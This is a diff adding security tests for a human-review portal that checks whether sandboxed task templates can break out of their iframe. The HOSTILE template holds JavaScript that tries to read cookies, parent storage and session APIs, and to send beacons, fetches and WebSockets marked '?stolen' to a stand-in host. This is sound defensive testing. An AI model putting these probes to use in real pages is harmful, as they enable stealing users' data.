@@ -1,0 +1,141 @@
+"""A worker task template is other people's script: what it cannot reach from its frame."""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page
+from reviewing import output_uri, sign_in, task_frame
+from support import ReviewDesk, wait_for_json
+
+HOSTILE = """
+<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
+<crowd-form><input name="findings" value=""></crowd-form>
+<script>
+async function tries(action) {
+  try { return "reached: " + await action(); } catch (error) { return error.name; }
+}
+function loads(tag, address) {
+  return new Promise((resolve, reject) => {
+    const element = document.createElement(tag);
+    element.onload = () => resolve("loaded");
+    element.onerror = () => reject(new TypeError("refused"));
+    element.src = address;
+    document.head.append(element);
+  });
+}
+document.addEventListener("all-crowd-elements-ready", async () => {
+  const base = document.referrer || new URL(document.querySelector("script[src]").src).origin;
+  const findings = {
+    parentDocument: await tries(() => window.parent.document.title),
+    parentStorage: await tries(() => window.parent.localStorage.length),
+    ownStorage: await tries(() => localStorage.length),
+    cookies: await tries(() => document.cookie),
+    apiSession: await tries(async () => (await fetch("/portal/api/session", {credentials: "include"})).status),
+    apiQueue: await tries(async () => (await fetch(base + "/portal/api/queue", {mode: "no-cors"})).type),
+    elsewhere: await tries(async () => (await fetch("{{ task.input.elsewhere }}/?stolen", {mode: "no-cors"})).type),
+    socket: await tries(() => new Promise((resolve, reject) => {
+      const socket = new WebSocket("{{ task.input.elsewhere }}/".replace("http", "ws"));
+      socket.onopen = () => resolve("open");
+      socket.onerror = () => reject(new TypeError("refused"));
+    })),
+    beacon: await tries(() => loads("img", "{{ task.input.elsewhere }}/?stolen")),
+    portalScript: await tries(() => loads("script", base + "/portal/static/main.js")),
+    topNavigation: await tries(() => { window.top.location = "{{ task.input.elsewhere }}/"; return "left"; }),
+    popup: await tries(() => { if (!window.open("{{ task.input.elsewhere }}/")) throw new TypeError("refused"); }),
+    origin: await tries(() => window.origin),
+  };
+  document.querySelector("input").value = JSON.stringify(findings);
+  window.parent.postMessage({type: "review-desk:ready"}, "*");
+  document.querySelector("crowd-form").submit();
+});
+</script>
+"""
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Another web server, and the paths it was asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+
+
+def test_a_hostile_template_reaches_nothing(
+    page: Page, review_desk_server: ReviewDesk, s3: Any, elsewhere: tuple[str, list[str]]
+) -> None:
+    address, asked = elsewhere
+    arn = review_desk_server.create_flow_definition("hostile", HOSTILE)
+    review_desk_server.client("sagemaker-a2i-runtime").start_human_loop(
+        HumanLoopName="hostile-1",
+        FlowDefinitionArn=arn,
+        HumanLoopInput={"InputContent": json.dumps({"elsewhere": address})},
+    )
+    sign_in(page, review_desk_server)
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".outcome")
+    output = wait_for_json(s3, output_uri(review_desk_server, "hostile-1"))
+    findings = json.loads(output["humanAnswers"][0]["answerContent"]["findings"])
+    origin = findings.pop("origin")
+    assert origin == "reached: null"
+    assert {name: text for name, text in findings.items() if text.startswith("reached")} == {}
+    assert len(findings) == 12
+    assert asked == []
+    assert page.url.startswith(review_desk_server.url)
+
+
+def test_a_frame_opened_by_itself_is_a_sandbox_too(page: Page, review_desk_server: ReviewDesk) -> None:
+    arn = review_desk_server.create_flow_definition(
+        "alone", "<script>document.title = window.origin</script>"
+    )
+    review_desk_server.client("sagemaker-a2i-runtime").start_human_loop(
+        HumanLoopName="alone-1", FlowDefinitionArn=arn, HumanLoopInput={"InputContent": "{}"}
+    )
+    portal = review_desk_server.portal()
+    task = portal.claim(human_loop="alone-1").json()
+    page.goto(review_desk_server.url + task["frame_url"])
+    assert page.title() == "null"
+    portal.http.post(f"/portal/api/tasks/{task['id']}/release", json={})
+
+
+def test_only_the_frame_of_the_task_is_listened_to(page: Page, review_desk_server: ReviewDesk) -> None:
+    """A message of another window, here the portal's own, does not submit anything."""
+    arn = review_desk_server.create_flow_definition(
+        "spoofed",
+        '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'
+        '<crowd-form><input name="a"></crowd-form>',
+    )
+    review_desk_server.client("sagemaker-a2i-runtime").start_human_loop(
+        HumanLoopName="spoofed-1", FlowDefinitionArn=arn, HumanLoopInput={"InputContent": "{}"}
+    )
+    submitted: list[str] = []
+    page.on(
+        "request", lambda request: submitted.append(request.url) if request.url.endswith("/submit") else None
+    )
+    sign_in(page, review_desk_server)
+    page.click("main .card:has-text('spoofed') button")
+    frame = task_frame(page, "spoofed-1")
+    page.evaluate("window.postMessage({type: 'review-desk:submit', answer: {a: 'spoofed'}}, '*')")
+    page.wait_for_timeout(300)
+    assert submitted == []
+    frame.fill("input", "mine")
+    frame.click("text=Submit")
+    page.wait_for_selector(".outcome")
+    assert len(submitted) == 1
